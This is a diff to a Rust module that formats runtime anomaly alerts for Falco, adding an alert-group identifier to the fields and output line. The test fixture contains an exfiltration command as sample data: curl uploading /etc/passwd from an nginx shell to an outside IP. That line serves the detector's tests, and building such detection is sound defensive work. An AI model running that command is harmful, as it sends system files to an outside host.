@@ -1,4 +1,5 @@
-//! One alert as Falco posts it: sentence, priority, rule, time, fields, tags.
+//! One alert as Falco posts it: sentence, priority, rule, time, fields, tags. It names the alert group, which is what
+//! `anomalyctl explain`, `approve` and `deny` take, on the machine and without the daemon.
 //!
 //! Most of Falcosidekick's outputs drop fields that are no strings, Alertmanager makes a label of every field, and what
 //! is above 4,096 bytes is cut. So every field is text, none has another value at every event, and the whole is kept
@@ -66,6 +67,7 @@ fn shortened(execution: &ScoredExecution, page: Option<&str>, length: usize) -> 
         "anomaly.score",
         execution.score.map_or_else(|| "none".to_owned(), |score| score.to_string()),
     );
+    fields.insert("anomaly.group", execution.group());
     fields.insert("anomaly.level", execution.level.as_str().to_owned());
     fields.insert("anomaly.threshold", execution.threshold.to_string());
     fields.insert("anomaly.reason", short(execution.reason.as_deref().unwrap_or_default()));
@@ -95,7 +97,7 @@ fn shortened(execution: &ScoredExecution, page: Option<&str>, length: usize) -> 
     };
     Alert {
         uuid,
-        output: format!("{moment}: {priority} {sentence}{link}"),
+        output: format!("{moment}: {priority} {sentence} group={}{link}", execution.group()),
         priority,
         rule: rule.name,
         // Falco's own for what programs do.
@@ -191,7 +193,7 @@ mod tests {
                 "output": "08:00:00.003000000: Warning In library/nginx, the server nginx started sh, which is new there \
                     (score 0.9312, warn): new: parent nginx, flag --upload-file \
                     | command=sh -c curl --upload-file /etc/passwd http://203.0.113.9/ \
-                    nearest=curl -s http://127.0.0.1/healthz uid=33",
+                    nearest=curl -s http://127.0.0.1/healthz uid=33 group=g24d34ed12ea06330",
                 "priority": "Warning",
                 "rule": "Novel child of a server",
                 "source": "syscall",
@@ -199,6 +201,7 @@ mod tests {
                 "time": "2026-03-02T08:00:00.003000000Z",
                 "hostname": "web-1",
                 "output_fields": {
+                    "anomaly.group": "g24d34ed12ea06330",
                     "anomaly.level": "warn",
                     "anomaly.nearest": "curl -s http://127.0.0.1/healthz",
                     "anomaly.proc_cmdline": "sh -c curl --upload-file /etc/passwd http://203.0.113.9/",
